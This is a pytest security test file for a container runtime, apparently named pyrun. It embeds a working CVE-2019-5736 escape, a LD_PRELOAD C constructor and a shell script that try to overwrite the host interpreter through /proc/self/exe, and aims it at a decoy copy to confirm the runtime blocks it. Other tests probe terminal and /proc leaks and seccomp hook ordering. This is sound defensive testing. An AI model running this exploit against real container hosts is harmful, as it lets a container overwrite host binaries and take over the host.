"""The container's first instruction never runs in a process whose exe is a
host file (issue 22 items 1, 4, 5; issue 23 items 12, 15).

The image here carries its own ld.so and libc (copied from the host) and an
entrypoint ``/entry`` that is the script ``#!/proc/self/exe``: the kernel
resolves ``/proc/self/exe`` in the process that calls execve(2). Were that
pyrun's Python, the image's ld.so would run the image's code (LD_PRELOAD'ed
``/attack.so``) with the host's interpreter as its exe; that code keeps a
descriptor of it, becomes the image's shell and writes to it once nothing
executes it (CVE-2019-5736). pyrun runs here from a DECOY interpreter: a
``python3 -m venv --copies`` copy owned as the runtime's user, never the
host's real python. Each path that makes a last execve(2) is tried: run
with and without pyrun's init, exec with and without -t, a startContainer
hook; rootful and rootless. Each failed on the code before the sealed
pyrun-init made the last execve(2) (seen: the decoy ended with the
container's bytes), except ``run --init``, whose init was sealed already.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import time
import uuid

import pytest

from conftest import Runtime, children
from test_attacks import own_rootfs

MARK = b"PWNED-BY-THE-CONTAINER"

ATTACK_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

/* Runs in whatever process the image's ld.so loads it into: keeps a
 * descriptor of that process's exe and becomes the image's shell, which
 * writes to it once nothing executes it any more. */
__attribute__((constructor)) static void attack(void)
{
	char n[16];
	int fd = open("/proc/self/exe", O_RDONLY);

	unsetenv("LD_PRELOAD");
	snprintf(n, sizeof(n), "%d", fd);
	execl("/bin/sh", "sh", "/attack.sh", n, (char *)NULL);
	_exit(99);
}
"""

ATTACK_SH = f"""
(
  trap '' HUP
  i=0
  while [ $i -lt 100 ]; do
    if {{ echo {MARK.decode()} >> /proc/self/fd/$1; }} 2>/dev/null; then exit 0; fi
    i=$((i+1)); sleep 0.1
  done
) &
[ "$ATTACK_STAY" = 1 ] && exec sleep 60
exit 0
"""


def _libs(binary: str) -> list[str]:
    """ldd(1): the shared objects ``binary`` needs, its ld.so included."""
    out = subprocess.run(["ldd", binary], check=True, capture_output=True, text=True).stdout
    paths = []
    for line in out.splitlines():
        words = line.replace("=>", " ").split()
        paths += [w for w in words if w.startswith("/")]
    return paths


def dynamic_rootfs(rt, decoy: str) -> str:
    """An image with its own ld.so and libc: the host's dash, sleep and
    whatever the decoy interpreter links, the attack's script and library."""
    root = os.path.join(rt.dir, f"dynroot-{uuid.uuid4().hex[:8]}")
    for d in ("bin", "proc", "dev", "sys", "tmp", "etc"):
        os.makedirs(os.path.join(root, d))
    for src, dst in (("/bin/sh", "/bin/sh"), ("/bin/sleep", "/bin/sleep")):
        shutil.copy(os.path.realpath(src), root + dst)
    for lib in {*_libs(decoy), *_libs("/bin/sh"), *_libs("/bin/sleep")}:
        os.makedirs(os.path.dirname(root + lib), exist_ok=True)
        shutil.copy(os.path.realpath(lib), root + lib)
    src = os.path.join(rt.dir, "attack.c")
    with open(src, "w") as f:
        f.write(ATTACK_C)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", os.path.join(root, "attack.so"), src], check=True)
    with open(os.path.join(root, "attack.sh"), "w") as f:
        f.write(ATTACK_SH)
    with open(os.path.join(root, "entry"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(os.path.join(root, "entry"), 0o755)
    subprocess.run(["chown", "-R", f"{rt.uid}:{rt.gid}", root], check=True)
    return root


@pytest.fixture(scope="module")
def decoys(workspace):
    """One decoy interpreter per owner: a real copy (venv --copies)."""
    made: dict[int, str] = {}

    def get(uid: int, gid: int) -> str:
        if uid not in made:
            d = os.path.join(workspace, f"decoy-venv-{uid}")
            base = getattr(sys, "_base_executable", sys.executable)
            subprocess.run([base, "-m", "venv", "--copies", "--without-pip", d], check=True)
            subprocess.run(["chown", "-R", f"{uid}:{gid}", d], check=True)
            made[uid] = os.path.join(d, "bin", "python3")
            assert not os.path.islink(made[uid])
        return made[uid]
    return get


@pytest.fixture
def drt(rt, decoys):
    """``rt`` with pyrun running from a decoy interpreter of its own (a
    test that fails leaves its decoy written to)."""
    venv = os.path.dirname(os.path.dirname(decoys(rt.uid, rt.gid)))
    mine = os.path.join(rt.dir, "decoy-venv")
    subprocess.run(["cp", "-a", venv, mine], check=True)
    decoy = os.path.join(mine, "bin", "python3")
    rt.prefix = [decoy, "-m", "pyrun"]
    rt.env = dict(rt.env, PYTHONPATH=rt.env.get("PYTHONPATH") or sysconfig.get_paths()["purelib"])
    rt.decoy = decoy
    with open(decoy, "rb") as f:
        rt.decoy_sum = hashlib.sha256(f.read()).hexdigest()
    rt.dynroot = dynamic_rootfs(rt, decoy)
    return rt


def attack_config(rt, args: list[str], attack: bool = True) -> dict:
    config = rt.config(args)
    config["root"]["path"] = rt.dynroot
    config["process"]["env"] = ["PATH=/bin"] + (["LD_PRELOAD=/attack.so", "ATTACK_STAY=1"] if attack else [])
    return config


def assert_decoy_intact(rt: Runtime, wait: float = 2.0) -> None:
    """Once no pyrun process runs the decoy, the attack has ``wait`` seconds."""
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        with open(rt.decoy, "rb") as f:
            data = f.read()
        assert MARK not in data and hashlib.sha256(data).hexdigest() == rt.decoy_sum, \
            "the container wrote to the interpreter that ran pyrun"
        time.sleep(0.1)


def test_the_image_runs_with_its_own_ld_so(drt):
    """The image works: its dynamic shell runs with its ld.so and libc."""
    out = drt.ok("run", "-b", drt.bundle(config=attack_config(drt, ["/bin/sh", "-c", "echo dyn-ok"], False)),
                 f"exe-{uuid.uuid4().hex[:8]}")
    assert out.strip() == "dyn-ok"


@pytest.mark.parametrize("init", ["--no-init", "--init"])
def test_entrypoint_cannot_rewrite_the_interpreter(drt, init):
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    drt("run", "-d", init, "-b", drt.bundle(config=attack_config(drt, ["/entry"])), cid)
    assert_decoy_intact(drt)
    drt("delete", "--force", cid)


@pytest.mark.parametrize("tty", [False, True])
def test_exec_cannot_rewrite_the_interpreter(drt, tty):
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    drt.ok("run", "-d", "-b", drt.bundle(config=attack_config(drt, ["/bin/sleep", "60"], False)), cid)
    env = ["-e", "LD_PRELOAD=/attack.so"]
    if tty:
        master, slave = os.openpty()
        p = drt.popen("exec", "-t", *env, cid, "/entry", stdin=slave, stdout=slave, stderr=slave)
        os.close(slave)
        p.wait(timeout=30)
        os.close(master)
    else:
        drt("exec", "-d", *env, cid, "/entry")
    assert_decoy_intact(drt)
    drt("delete", "--force", cid)


def test_start_container_hook_cannot_rewrite_the_interpreter(drt):
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    config = attack_config(drt, ["/bin/sleep", "60"], False)
    config["hooks"] = {"startContainer": [{"path": "/entry", "args": ["/entry"],
                                           "env": ["PATH=/bin", "LD_PRELOAD=/attack.so"]}]}
    drt("run", "-d", "-b", drt.bundle(config=config), cid)
    assert_decoy_intact(drt)
    drt("delete", "--force", cid)


# ------------------------------------------- PID 1 before start (item 4, 23.15)

def test_pid1_of_a_created_container_holds_nothing_of_the_host(rt):
    """Before ``start`` PID 1 is the sealed pyrun-init on exec.fifo: its exe
    is no host file, it holds no host descriptor but the fifo, has the
    container's environment only and no host path in its command line."""
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    secret = f"HOST-SECRET-{uuid.uuid4().hex}"
    saved = rt.env
    rt.env = dict(saved, PYRUN_TEST_SECRET=secret)
    try:
        rt.ok("create", "--no-init", "-b", rt.bundle(["sleep", "60"]), cid)
    finally:
        rt.env = saved
    pid = rt.state(cid)["pid"]
    assert os.readlink(f"/proc/{pid}/exe").startswith("/memfd:pyrun-init")
    with open(f"/proc/{pid}/environ", "rb") as f:
        environ = f.read()
    assert secret.encode() not in environ and b"PYRUN_TEST_SECRET" not in environ
    fds = {int(fd): os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")}
    extra = {fd: target for fd, target in fds.items() if fd > 2}
    assert list(extra.values()) == [os.path.join(rt.root, cid, "exec.fifo")], extra
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        cmdline = f.read()
    assert cmdline.startswith(b"pyrun-init\0") and rt.dir.encode() not in cmdline, cmdline
    rt.ok("start", cid)
    rt.ok("delete", "--force", cid)


@pytest.mark.parametrize("init", ["--init", "--no-init"])
def test_exec_into_a_created_container(rt, init):
    """runc can exec into a created container, rootless too (its init is
    dumpable there); pyrun's PID 1 was its non-dumpable interpreter."""
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    rt.ok("create", init, "-b", rt.bundle(["sleep", "60"]), cid)
    p = rt("exec", cid, "echo", "in-created")
    assert p.returncode == 0 and p.stdout.strip() == "in-created", p.stderr
    rt.ok("delete", "--force", cid)
    runc = shutil.which("runc")
    if runc is None:
        return
    from test_runc_semantics import Bundles

    b = Bundles(rt)
    bundle, rcid = b.make(["sleep", "60"]), b.cid("runc")
    try:
        assert b.runc("create", "-b", bundle, rcid).returncode == 0
        r = b.runc("exec", rcid, "echo", "in-created")
        assert r.returncode == 0 and r.stdout.strip() == "in-created", r.stderr
    finally:
        b.cleanup()


# ------------------------------------------------ no host terminal (item 5)

def _ctty_popen(rt, *args):
    """pyrun with a pty as its controlling terminal (and stdio), as from a shell."""
    import fcntl
    import termios

    master, slave = os.openpty()

    def ctty():
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)
    p = subprocess.Popen(rt.cmd(*args), stdin=slave, stdout=slave, stderr=slave, env=rt.env, cwd=rt.dir,
                         preexec_fn=ctty, **rt._user_kw())
    os.close(slave)
    return p, master


def _read_all(master: int) -> bytes:
    out = b""
    while True:
        try:
            chunk = os.read(master, 4096)
        except OSError:
            return out
        if not chunk:
            return out
        out += chunk


def test_exec_without_tty_has_no_controlling_terminal_of_the_callers(rt):
    """Without -t, the process is in a session of its own: no controlling
    terminal, so /dev/tty (and ioctl(TIOCSTI) on it) cannot reach the
    caller's terminal."""
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    rt.ok("run", "-d", "-b", rt.bundle(["sleep", "60"]), cid)
    script = ("read -r _ _ _ _ _ sid tty _ < /proc/self/stat; echo tty=$tty sid=$sid pid=$$;"
              "echo typed-into-the-host > /dev/tty && echo reached-dev-tty")
    p, master = _ctty_popen(rt, "exec", cid, "sh", "-c", script)
    p.wait(timeout=30)
    out = _read_all(master).decode(errors="replace")
    os.close(master)
    assert "tty=0 " in out, out
    assert "typed-into-the-host" not in out and "reached-dev-tty" not in out, out
    fields = dict(w.split("=") for w in out.split() if w.count("=") == 1 and w.split("=")[0] in ("sid", "pid"))
    assert fields.get("sid") == fields.get("pid"), out
    rt.ok("delete", "--force", cid)


def test_pyruns_processes_in_a_container_show_no_host_path(rt):
    """/proc/PID/cmdline is readable by every process of the container: the
    exec helper's (pyrun's Python, inside the container's PID namespace
    while it sets the process up) named --root and the host's paths. The
    test hook holds the exec's child a second at setrlimit."""
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    rt.ok("run", "-d", "-b", rt.bundle(["sleep", "60"]), cid)
    pid1 = rt.state(cid)["pid"]
    ns = os.readlink(f"/proc/{pid1}/ns/pid")
    time.sleep(0.2)
    before = {pid1, *children(pid1)}  # pyrun's init and its child, or the entrypoint
    saved = rt.env
    rt.env = dict(saved, PYRUN_TEST_HOOKS="1", PYRUN_TEST_PAUSE_AT="setrlimit")
    try:
        p = rt.popen("exec", cid, "true")
    finally:
        rt.env = saved
    seen = []
    deadline = time.monotonic() + 10
    while not seen and time.monotonic() < deadline:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in before or int(name) == p.pid:
                continue
            try:
                if os.readlink(f"/proc/{name}/ns/pid") != ns:
                    continue
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    seen.append(f.read())
            except OSError:
                continue
        time.sleep(0.02)
    p.wait(timeout=30)
    rt.ok("delete", "--force", cid)
    assert seen, "the exec's child was not seen in the container"
    for cmdline in seen:
        assert rt.root.encode() not in cmdline and b"pyrun --root" not in cmdline, cmdline


# ------------------------------------- startContainer under the filter (23.12)

def test_start_container_hook_runs_under_the_seccomp_filter(rt):
    """With noNewPrivileges, runc loads the filter before startContainer
    hooks run, so a hook is confined as the process is; pyrun loaded it
    after them. The profile denies mkdir(2): the hook's mkdir fails, and
    with it start, under both."""
    def edit(config):
        config["process"]["noNewPrivileges"] = True
        config["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [
            {"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]}
        config["hooks"] = {"startContainer": [{"path": "/bin/sh", "args": ["sh", "-c", "mkdir /hook-was-here"]}]}

    config = rt.config(["sleep", "60"])
    config["root"]["path"] = own_rootfs(rt)
    edit(config)
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    p = rt("run", "-d", "-b", rt.bundle(config=config), cid)
    rt("delete", "--force", cid)
    assert p.returncode != 0 and "hooks.startContainer[0]" in p.stderr, p.stderr
    assert not os.path.exists(os.path.join(config["root"]["path"], "hook-was-here"))
    if shutil.which("runc") is None:
        return
    from test_runc_semantics import Bundles

    b = Bundles(rt)
    bundle, rcid = b.make(["sleep", "60"], edit), b.cid("runc")
    try:
        r = b.runc("run", "-d", "-b", bundle, rcid)
        assert "hook" in r.stderr and not os.path.exists(os.path.join(bundle, "rootfs", "hook-was-here")), r.stderr
    finally:
        b.cleanup()


@pytest.mark.parametrize("nnp", [False, True])
def test_a_filter_that_refuses_execveat_still_runs_the_process(rt, nnp):
    """Without noNewPrivileges the filter is in force before pyrun-init is
    executed (loading it needs CAP_SYS_ADMIN, which goes first, as in runc):
    a profile that knows execve(2) but denies execveat(2) must not stop
    pyrun where runc runs it: the memfd is then executed by its
    /proc/self/fd name (checked to be it)."""
    config = rt.config(["sh", "-c", "echo ran-ok; exec sleep 60"])
    config["process"]["noNewPrivileges"] = nnp
    config["linux"]["seccomp"] = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [
        {"names": ["execveat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]}
    cid = f"exe-{uuid.uuid4().hex[:8]}"
    p = rt("run", "-d", "-b", rt.bundle(config=config), cid)
    assert p.returncode == 0, p.stderr
    e = rt("exec", cid, "echo", "exec-ok")
    rt("delete", "--force", cid)
    assert e.returncode == 0 and e.stdout.strip() == "exec-ok", e.stderr
